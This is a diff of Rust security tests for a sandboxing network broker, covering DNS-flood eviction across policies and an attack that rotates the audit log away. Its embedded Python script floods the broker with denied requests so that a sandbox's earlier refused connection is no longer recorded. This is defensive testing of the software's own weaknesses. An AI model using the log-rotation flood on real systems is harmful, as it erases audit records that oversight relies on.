+        held.iter().all(|h| h.starts_with("holding 32")),
+        "the holders ran: {held:?}"
+    );
+    assert!(
+        victim.contains("answer HTTP/1.1 200"),
+        "another tenant's broker call was not served while eight sandboxes held the \
+         broker's connections: {victim}"
+    );
+}
+
+/// 1(a) across policies (held): the same flood from a sandbox of `web` leaves a sandbox
+/// of policy `ops`, which resolved the same name, its validated address: each policy
+/// frees only its own share.
+#[test]
+fn resolving_many_names_does_not_evict_another_policys_validated_address() {
+    hb_tests::require_root();
+    private_netns(&["192.0.2.53", "203.0.113.10"]);
+    let _dns = upstream();
+    let probe = TcpProbe::bind("203.0.113.10:8080");
+    let cfg = format!(
+        "{}\n[[policy]]\nname = \"ops\"\nguard = false\nallow_domains = [\"*.wild.test\"]\n",
+        config("")
+    );
+    let mut env = TestEnv::new("evictpol", &cfg);
+    env.start_agent();
+    let ops = |args: &[&str]| {
+        let mut full = vec!["sandbox", "run", "--policy", "ops", "--user", "65534", "--"];
+        full.extend_from_slice(args);
+        stdout(&env.hb(&full))
+    };
+    let said = ops(&[python(), "-c", PY_RESOLVE, "victim.wild.test"]);
+    assert!(
+        said.contains("victim.wild.test rcode 0 203.0.113.10"),
+        "{said}"
+    );
+    let flood = run_in(&env, &[python(), "-c", PY_MANY_NAMES, "0", "1100"]);
+    let after = ops(&[
+        python(),
+        "-c",
+        hb_tests::PY_PROBE,
+        "tcp",
+        "203.0.113.10",
+        "8080",
+    ]);
+    let ops_id = env.policy_id("ops");
+    let ops_rows = allow_rows(&env)
+        .iter()
+        .filter(|r| r["policy_id"] == ops_id || r["policy"] == "ops")
+        .count();
+    println!(
+        "attacker (web): {} | ops rows: {ops_rows} | ops's connect: {}",
+        flood.trim(),
+        after.trim()
+    );
+    assert!(flood.contains("answered 1100"), "{flood}");
+    assert_eq!(
+        after.trim(),
+        "OK",
+        "a sandbox of another policy lost its validated address to web's flood"
+    );
+    assert!(
+        probe.wait_accepted(1) >= 1,
+        "the connect reached the listener"
+    );
+}
+
+/// Python for a sandbox: one refused connect to 10.0.0.1:80 (a kernel refusal, audited),
+/// then for `argv[2]` seconds refused broker calls (a plain GET to a private address,
+/// `policy_denied`) on 8 kept-alive connections to the broker at `argv[1]`; prints
+/// `connect E calls N`.
+const PY_AUDIT_FLOOD: &str = r#"
+import errno, socket, sys, threading, time
+try:
+    socket.create_connection(("10.0.0.1", 80), timeout=2); first = "OK"
+except OSError as e:
+    first = errno.errorcode.get(e.errno, str(e.errno))
+body = b'{"method":"GET","url":"https://10.0.0.1/"}'
+REQ = b"POST /v1/requests HTTP/1.1\r\nHost: hb\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n" % len(body) + body
+calls = [0] * 8
+def worker(i):
+    s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.settimeout(10)
+    stop = time.time() + float(sys.argv[2])
+    while time.time() < stop:
+        s.sendall(REQ)
+        d = s.recv(65536)
+        if not d: return
+        calls[i] += 1
+ts = [threading.Thread(target=worker, args=(i,)) for i in range(8)]
+for t in ts: t.start()
+for t in ts: t.join()
+print("connect", first, "calls", sum(calls), flush=True)
+"#;
+
+/// Angle 4, the audit trail: the kernel's refusals are budgeted per sandbox so that "a
+/// sandbox refused in a loop cannot rotate the audit log's history away" (README). The
+/// attack: a sandbox is refused a connect to a private address, then makes refused
+/// broker calls as fast as it can. Every broker decision is an audit line, with no
+/// budget, so the history rotates and the record of what it tried first is gone from
+/// every audit file. (The history here is 2 × 256 KiB so the test is quick; the test
+/// prints the rate, from which the time to rotate the default 5 × 64 MiB follows.)
+#[test]
+#[ignore = "open: broker decisions are audited one line per call with no per-caller \
+            budget, so a sandbox rotates the audit history (and its own earlier refusals) away"]
+fn refused_broker_calls_cannot_rotate_a_sandboxs_earlier_refusal_out_of_the_audit_trail() {
+    hb_tests::require_root();
+    private_netns(&["10.0.0.1"]);
+    let mut env = TestEnv::new(
+        "auditroll",
+        r#"
+[broker]
+socket_mode = "0666"
+
+[dns]
+listen = "127.0.0.1:5300"
+
+[[policy]]
+name = "web"
+"#,
+    );
+    // A short history, so the test is quick.
+    let text = std::fs::read_to_string(&env.config_path).expect("config");
+    let text = text.replacen(
+        "[agent]\n",
+        "[agent]\naudit_max_bytes = 262144\naudit_max_files = 2\n",
+        1,
+    );
+    std::fs::write(&env.config_path, text).expect("config");
+    env.start_agent();
+    let sock = env.broker_socket().display().to_string();
+    let out = env.hb(&[
+        "sandbox",
+        "run",
+        "--policy",
+        "web",
+        "--user",
+        "65534",
+        "--",
+        python(),
+        "-c",
+        PY_AUDIT_FLOOD,
+        &sock,
+        "6",
+    ]);
+    let said = stdout(&out);
+    thread::sleep(Duration::from_secs(2));
+    let mut text = String::new();
+    let mut bytes = 0usize;
+    for name in ["audit.log", "audit.log.1"] {
+        let t = std::fs::read_to_string(env.state_dir.join(name)).unwrap_or_default();
+        bytes += t.len();
+        text.push_str(&t);
+    }
+    let records: Vec<Value> = text
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect();
+    let denied_calls = records
+        .iter()
+        .filter(|r| r.to_string().contains("policy_denied"))
+        .count();
+    let first_kept = records
+        .iter()
+        .any(|r| r.to_string().contains("10.0.0.1") && r.to_string().contains("\"port\":80"));
+    let calls: u64 = said
+        .split_whitespace()
+        .nth(3)
+        .and_then(|n| n.parse().ok())
+        .unwrap_or(0);
+    println!(
+        "attacker: {} | audit bytes kept: {bytes} | policy_denied lines kept: {denied_calls} \
+         | the refused connect still recorded: {first_kept} | ~{} bytes per call, {} calls/s",
+        said.trim(),
+        bytes / denied_calls.max(1),
+        calls / 6
+    );
+    assert!(said.contains("connect EPERM"), "{said}");
+    assert!(
+        first_kept,
+        "the sandbox's refused connect to 10.0.0.1:80 is in no audit file after it made \
+         {calls} refused broker calls"
+    );
+}
